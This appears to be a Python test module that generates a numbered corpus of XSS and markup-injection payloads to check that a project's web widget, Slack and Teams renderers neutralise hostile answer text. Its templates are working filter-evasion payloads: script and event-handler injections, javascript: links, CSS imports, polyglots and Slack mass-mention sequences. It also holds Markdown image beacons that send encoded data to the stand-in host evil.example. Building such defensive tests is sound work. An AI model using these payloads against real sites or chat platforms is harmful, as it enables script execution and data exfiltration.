"""The XSS corpus: answer text that tries to run script, load something remote, or smuggle
markup a chat platform would act on, through the widget, Slack and Teams renderers.

Written for this project from the usual families (OWASP's XSS filter evasion cheat sheet, garak's
``web_injection`` Markdown exfiltration probes, Slack mrkdwn control sequences, Adaptive Card
Markdown). Each payload carries its own marker ``xssNNN`` (in its text or in its evil URL) so
a survivor names itself; its script, when run, sets ``window.__xss`` to its number; every remote
thing it would load lives on ``EVIL_HOST``, so a request there is a payload that got through.

Placeholders in the templates: ``§M§`` the marker, ``§N§`` the number, ``§JS§`` the script,
``§EVIL§`` an evil URL (``https://evil.example/xssNNN``), ``§HOST§`` the evil host, ``§B64JS§``
the script in base64, ``§B64HTML§`` a script page in base64, ``§B64SVG§`` an SVG with onload.
"""

from __future__ import annotations

import base64
import re
from dataclasses import dataclass

from hlsguide.answer.links import strip_unknown_links
from hlsguide.corpus.references import Bibliography
from hlsguide.types import Answer, Citation, Lens, Publication

EVIL_HOST = "evil.example"
FLAG = "__xss"  # window.__xss: set by any payload whose script runs
MARKER = re.compile(r"xss\d{3}")

# (family, template). Families follow the brief; every template is distinct.
TEMPLATES: list[tuple[str, str]] = [
    # --- script elements, in many spellings
    ("script", "<script>§JS§</script>"),
    ("script", "<SCRIPT>§JS§</SCRIPT>"),
    ("script", "<ScRiPt >§JS§</sCrIpT >"),
    ("script", '<script src="§EVIL§.js"></script>'),
    ("script", '<script type="module">§JS§</script>'),
    ("script", "<script>/*§M§*/§JS§</script>"),
    ("script", "<scr<script>ipt>§JS§</scr</script>ipt>"),
    ("script", "<<script>script>§JS§<</script>/script>"),
    ("script", "</title><script>§JS§</script>"),
    ("script", '"><script>§JS§</script>'),
    ("script", "'><script>§JS§</script>"),
    ("script", "</textarea><script>§JS§</script>"),
    ("script", "</style></noscript><script>§JS§</script>"),
    ("script", "<script/§M§>§JS§</script>"),
    ("script", "<script\n>§JS§</script\n>"),
    ("script", '<script>eval(atob("§B64JS§"))</script>'),
    ("script", "<script>\\u0077indow.__xss=§N§</script>"),
    ("script", "<script src=//§HOST§/§M§.js></script>"),
    ("script", '<script src="data:text/javascript,§JS§"></script>'),
    ("script", "<svg><script>§JS§</script></svg>"),
    # --- event-handler attributes
    ("handler", "<img src=x onerror=§JS§>"),
    ("handler", '<img src="x" onerror="§JS§">'),
    ("handler", "<IMG SRC=x ONERROR=§JS§>"),
    ("handler", "<img/src=x/onerror=§JS§>"),
    ("handler", "<img src=x onerror\n=§JS§>"),
    ("handler", "<img src=x onerror=`§JS§`>"),
    ("handler", "<img src=x:x onerror=§JS§//"),
    ("handler", "<img\x0csrc=x\x0conerror=§JS§>"),
    ("handler", "<svg onload=§JS§>"),
    ("handler", "<svg/onload=§JS§>"),
    ("handler", "<svg><animate onbegin=§JS§ attributeName=x dur=1s>"),
    ("handler", "<body onload=§JS§>"),
    ("handler", "<body onpageshow=§JS§>"),
    ("handler", "<iframe onload=§JS§></iframe>"),
    ("handler", '<iframe srcdoc="<script>parent.§JS§</script>"></iframe>'),
    ("handler", "<details open ontoggle=§JS§><summary>§M§</summary></details>"),
    ("handler", "<video><source onerror=§JS§></video>"),
    ("handler", "<video src=x onerror=§JS§></video>"),
    ("handler", "<audio src=x onerror=§JS§>"),
    ("handler", "<input autofocus onfocus=§JS§>"),
    ("handler", "<select autofocus onfocus=§JS§></select>"),
    ("handler", "<textarea autofocus onfocus=§JS§></textarea>"),
    ("handler", "<marquee onstart=§JS§>§M§</marquee>"),
    ("handler", "<div onpointerover=§JS§>§M§ hover me</div>"),
    ("handler", "<a onmouseover=§JS§>§M§</a>"),
    ("handler", "<form><button formaction=javascript:§JS§>§M§</button></form>"),
    ("handler", "<isindex type=image src=1 onerror=§JS§>"),
    ("handler", "<img src=x onerror=&#119;indow.__xss=§N§>"),
    # --- remote and embedded documents
    ("embed", '<iframe src="§EVIL§.html"></iframe>'),
    ("embed", '<iframe src="javascript:parent.§JS§"></iframe>'),
    ("embed", '<object data="§EVIL§.swf"></object>'),
    ("embed", '<object data="data:text/html;base64,§B64HTML§"></object>'),
    ("embed", '<embed src="§EVIL§.svg">'),
    ("embed", '<meta http-equiv="refresh" content="0;url=javascript:§JS§">'),
    ("embed", '<base href="§EVIL§/">'),
    ("embed", '<form action="javascript:§JS§"><input type=submit value=§M§></form>'),
    ("embed", '<svg><a xlink:href="javascript:§JS§"><text x="0" y="20">§M§</text></a></svg>'),
    (
        "embed",
        "<math><maction actiontype=statusline xlink:href=javascript:§JS§>§M§</maction></math>",
    ),
    ("embed", '<a href="javascript:§JS§" id=x§N§>§M§</a><script>x§N§.click()</script>'),
    # --- javascript:, data:, vbscript: and other schemes in Markdown links
    ("md-link", "[§M§](javascript:§JS§)"),
    ("md-link", "[§M§](JaVaScRiPt:§JS§)"),
    ("md-link", "[§M§](  javascript:§JS§  )"),
    ("md-link", "[§M§](javascript&#58;§JS§)"),
    ("md-link", "[§M§](&#106;avascript:§JS§)"),
    ("md-link", "[§M§](&#x6A;&#x61;vascript:§JS§)"),
    ("md-link", "[§M§](java\tscript:§JS§)"),
    ("md-link", "[§M§](javascript://%0A§JS§)"),
    ("md-link", "[§M§](data:text/html;base64,§B64HTML§)"),
    ("md-link", "[§M§](data:text/html,<script>§JS§</script>)"),
    ("md-link", "[§M§](vbscript:msgbox(§N§))"),
    ("md-link", "[§M§](<javascript:§JS§>)"),
    ("md-link", '[§M§](javascript:§JS§ "a title")'),
    ("md-link", "[§M§](%6Aavascript:§JS§)"),
    ("md-link", "[§M§](file:///etc/passwd#§M§)"),
    ("md-link", "[§M§](/\\§HOST§/§M§)"),
    ("md-link", "[§M§](//§HOST§/§M§)"),
    ("md-link", "[§M§](java\u200bscript:§JS§)"),
    ("md-link", "**[§M§](javascript:§JS§)**"),
    ("md-link", "[click **§M§**](javascript:§JS§)"),
    ("md-link", "[fine](https://ok.example/)[§M§](javascript:§JS§)"),
    ("md-link", '[§M§](https://ok.example/" onmouseover="§JS§)'),
    ("md-link", "[§M§]\n(javascript:§JS§)"),
    ("md-link", "[§M§](javascript:§JS§)\n\n[§M§ again](javascript:§JS§)"),
    # --- reference-style links (EchoLeak) and their definitions
    ("md-ref", "[§M§][ref§N§]\n\n[ref§N§]: javascript:§JS§"),
    ("md-ref", '[ref§N§]\n\n[ref§N§]: javascript:§JS§ "§M§"'),
    ("md-ref", "[§M§][]\n\n[§M§]: data:text/html,<script>§JS§</script>"),
    ("md-ref", "[§M§][ref§N§]\n\n[ref§N§]: <javascript:§JS§>"),
    ("md-ref", "[§M§][ref§N§]\n\n   [ref§N§]:\n   vbscript:msgbox(§N§)"),
    ("md-ref", "[§M§][ref§N§]\n\n[ref§N§]: §EVIL§?q=c2VjcmV0"),
    ("md-ref", "[ref§N§]: javascript:§JS§\n[§M§][ref§N§]"),
    # --- autolinks
    ("autolink", "<javascript:§JS§>"),
    ("autolink", "<§EVIL§>"),
    ("autolink", "<data:text/html,§M§>"),
    ("autolink", "<vbscript:msgbox(§N§)>"),
    ("autolink", "<mailto:§M§@§HOST§>"),
    ("autolink", "www.§HOST§/§M§"),
    # --- Markdown and HTML images: none may ever load
    ("image", "![§M§](§EVIL§.png)"),
    ("image", "![§M§](https://§HOST§/log?q=c2VjcmV0IGNvbnZlcnNhdGlvbg==&m=§M§)"),
    ("image", "![§M§](//§HOST§/§M§.png)"),
    ("image", "![§M§](data:image/svg+xml;base64,§B64SVG§)"),
    ("image", '![§M§](§EVIL§.png "tracking pixel")'),
    ("image", "[![§M§](§EVIL§.png)](§EVIL§)"),
    ("image", "![§M§](<§EVIL§ x.png>)"),
    ("image", "![§M§][img§N§]\n\n[img§N§]: §EVIL§.png"),
    ("image", "- ![§M§](§EVIL§.png)"),
    ("image", "> ![§M§](§EVIL§.png)"),
    ("image", "### ![§M§](§EVIL§.png)"),
    ("image", '<img src="§EVIL§.gif" width=1 height=1>'),
    ("image", '<picture><source srcset="§EVIL§.webp"><img alt=§M§></picture>'),
    ("image", '<svg><image href="§EVIL§.png"/></svg>'),
    ("image", '<input type=image src="§EVIL§.png">'),
    ("image", '<video poster="§EVIL§.jpg"></video>'),
    ("image", '<link rel=prefetch href="§EVIL§.bin">'),
    # --- HTML entities, percent and unicode escapes: must stay text, never decode to markup
    ("encoded", "&lt;script&gt;§JS§&lt;/script&gt;"),
    ("encoded", "&#60;img src=x onerror=§JS§&#62;"),
    ("encoded", "&#x3C;svg onload=§JS§&#x3E;"),
    ("encoded", "&amp;lt;script&amp;gt;§JS§&amp;lt;/script&amp;gt;"),
    ("encoded", "\\u003cscript\\u003e§JS§\\u003c/script\\u003e"),
    ("encoded", "\\x3cscript\\x3e§JS§\\x3c/script\\x3e"),
    ("encoded", "%3Cscript%3E§JS§%3C%2Fscript%3E"),
    ("encoded", "\uff1cscript\uff1e§JS§\uff1c/script\uff1e"),
    ("encoded", '<a href="&#x6A;avascript:§JS§">§M§</a>'),
    ("encoded", '<a href="jav&#x09;ascript:§JS§">§M§</a>'),
    ("encoded", '<a href="javascript&colon;§JS§">§M§</a>'),
    ("encoded", "<\u0131mg src=x onerror=§JS§>"),
    # --- Slack mrkdwn control sequences: mentions, links, special commands
    ("slack", "<!channel> §M§"),
    ("slack", "<!here|here> §M§"),
    ("slack", "<!everyone> §M§"),
    ("slack", "<@U123ABC> §M§"),
    ("slack", "<#C0123ABC|general> §M§"),
    ("slack", "<!subteam^S0123ABC|@admins> §M§"),
    ("slack", "<§EVIL§|click here for your payslip>"),
    ("slack", "<javascript:§JS§|click> §M§"),
    ("slack", "<!date^1392734382^{date_short}^§EVIL§|Feb 18>"),
    ("slack", "<mailto:it@§HOST§|IT desk> §M§"),
    ("slack", "&lt;!channel&gt; §M§"),
    ("slack", "*<!here>* _<@U999ZZZ>_ §M§"),
    ("slack", "`<!channel>` §M§"),
    ("slack", "<https://ok.example|<!channel>> §M§"),
    # --- Adaptive Card / Teams Markdown tricks
    ("teams", "<at>Everyone</at> §M§"),
    ("teams", "{{DATE(2030-01-01T00:00:00Z, SHORT)}} §M§"),
    ("teams", "${$root.secret} §M§"),
    ("teams", "- [§M§](javascript:§JS§)"),
    ("teams", "1. ![§M§](§EVIL§.png)"),
    ("teams", "\\[§M§\\](javascript:§JS§)"),
    ("teams", "### [§M§](javascript:§JS§)"),
    ("teams", "_[§M§](javascript:§JS§)_"),
    # --- CSS injection and remote style loads
    ("css", '<style>@import url("§EVIL§.css");</style>'),
    ("css", '<div style="background:url(§EVIL§.png)">§M§</div>'),
    ("css", '<link rel="stylesheet" href="§EVIL§.css">'),
    ("css", "<style>*{background-image:url(§EVIL§.gif)}</style>"),
    ("css", '<p style="width:expression(§JS§)">§M§</p>'),
    ("css", '<style>input[value^="a"]{background:url(§EVIL§?a)}</style>'),
    ("css", '<svg><style>@import "§EVIL§.css";</style></svg>'),
    ("css", "<style>@font-face{font-family:x;src:url(§EVIL§.woff)}</style>"),
    # --- template injection, mutation XSS and polyglots
    ("polyglot", "{{constructor.constructor('§JS§')()}} §M§"),
    ("polyglot", "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} §M§"),
    ("polyglot", '<noscript><p title="</noscript><img src=x onerror=§JS§>">'),
    ("polyglot", "<math><mtext><table><mglyph><style><img src=x onerror=§JS§>"),
    ("polyglot", '<!--<img src="--><img src=x onerror=§JS§//">'),
    ("polyglot", "<xmp></xmp><img src=x onerror=§JS§></xmp>"),
    ("polyglot", "<svg><foreignObject><iframe onload=§JS§></iframe></foreignObject></svg>"),
    ("polyglot", "'\"--></style></script></title><svg/onload=§JS§>"),
    ("polyglot", '" onfocus="§JS§" autofocus="'),
    ("polyglot", "javascript:/*--></title></style></textarea></script><img src=x onerror=§JS§>"),
    ("polyglot", '<div><template shadowrootmode="open"><img src=x onerror=§JS§></template></div>'),
    ("polyglot", "<svg><![CDATA[<img src=x onerror=§JS§>]]></svg>"),
    ("polyglot", '<?xml-stylesheet href="§EVIL§.xsl"?><!DOCTYPE x>§M§'),
]


@dataclass(frozen=True)
class Payload:
    """One hostile string, with the number its script writes into ``window.__xss``."""

    n: int
    family: str
    text: str

    @property
    def marker(self) -> str:
        return marker(self.n)

    @property
    def one_line(self) -> str:
        """The payload for one-line places (a document title or heading)."""
        return " ".join(self.text.split("\n"))


def marker(n: int) -> str:
    return f"xss{n:03d}"


def script(n: int) -> str:
    """What an executed payload runs: it sets the global flag to its number."""
    return f"window.{FLAG}={n}"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _fill(template: str, n: int) -> str:
    if "§M§" not in template and "§EVIL§" not in template and "§HOST§" not in template:
        template = "§M§ " + template
    js = script(n)
    values = {
        "§M§": marker(n),
        "§N§": str(n),
        "§JS§": js,
        "§EVIL§": f"https://{EVIL_HOST}/{marker(n)}",
        "§HOST§": EVIL_HOST,
        "§B64JS§": _b64(js),
        "§B64HTML§": _b64(f"<script>parent.{js}</script>"),
        "§B64SVG§": _b64(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"/>'),
    }
    for key, value in values.items():
        template = template.replace(key, value)
    return template


def payloads() -> list[Payload]:
    """Every payload of the corpus, numbered from 1."""
    found = [Payload(n, family, _fill(t, n)) for n, (family, t) in enumerate(TEMPLATES, 1)]
    for payload in found:
        # A survivor must be able to name itself; a marker with the §HOST§ form alone
        # (e.g. "www.evil.example/xss042") still carries it.
        assert payload.marker in payload.text, payload
    return found


PAYLOADS = payloads()


def batches(size: int) -> list[list[Payload]]:
    """The corpus in consecutive groups of ``size`` (the last may be smaller)."""
    return [PAYLOADS[i : i + size] for i in range(0, len(PAYLOADS), size)]


def markers_in(text: str) -> set[str]:
    """The payload markers that appear in ``text``."""
    return set(MARKER.findall(text))


def hostile_answer(payload: Payload) -> Answer:
    """An answer with ``payload`` everywhere answer content reaches a renderer: inline in a
    cited sentence, as a paragraph of its own, in the question, and in the citation's title,
    heading, quote and publication (whose URL is hostile too). Each place also carries a plain
    sentinel (``seen-xssNNN``) so a test can tell the content arrived."""
    seen = f"seen-{payload.marker}"
    publication = Publication(
        id=f"pub-{payload.n}",
        formatted=f"{seen} {payload.one_line}",
        url=HOSTILE_URLS[payload.n % len(HOSTILE_URLS)].replace("§N§", str(payload.n)),
    )
    citation = Citation(
        n=1,
        chunk_id=f"chunk-{payload.n}",
        document_id=f"doc-{payload.n}",
        title=f"{seen} {payload.one_line}",
        kind="concept",
        heading=f"{seen} {payload.one_line}",
        quote=f"{seen} {payload.text}",
        location="hostile.md (top; characters 0-10)",
        publications=[publication],
    )
    body = (
        f"### In short\n\nFunders can trust grantees {seen} {payload.one_line} [1].\n\n"
        f"{payload.text}\n\n{seen} closes the answer [1]."
    )
    sources = f"### Sources\n\n[1] {citation.title}, {citation.heading} (concept)."
    return Answer(
        answer_id=f"answer-{payload.n}",
        question=f"{seen} {payload.one_line}",
        standalone_query=payload.one_line,
        answer=f"{body}\n\n{sources}",
        citations=[citation],
        lens=Lens(principles={}),
        mode="llm",
    )


# Publication URLs come from the bibliography, not from answers; they are hostile here anyway.
HOSTILE_URLS = [
    "javascript:window.__xss=§N§",
    "data:text/html,<script>window.__xss=§N§</script>",
    f"https://{EVIL_HOST}/pub§N§?a=<!channel>|<@U123>",
    "vbscript:msgbox(§N§)",
    f"//{EVIL_HOST}/pub§N§",
    f"https://user:pw@{EVIL_HOST}/pub§N§",
    f"https://{EVIL_HOST}/pub§N§) ![x](https://{EVIL_HOST}/img§N§.png",
    "https://doi.org/10.1000/§N§",
]


def vouching_bibliography(texts: list[str], base: Bibliography | None = None) -> Bibliography:
    """``base`` plus a reference for every URL in ``texts``: the answer core keeps a link only
    when the references vouch for it, so a renderer test that must see hostile links arrive
    (a references file a user added can name any URL) has its bibliography vouch for them."""
    _, urls = strip_unknown_links("\n".join(texts), set())
    entries = dict(base.entries) if base else {}
    for i, url in enumerate(dict.fromkeys(urls)):
        entries[f"vouched-{i}"] = {"id": f"vouched-{i}", "title": "Vouched link", "URL": url}
    return Bibliography(entries)
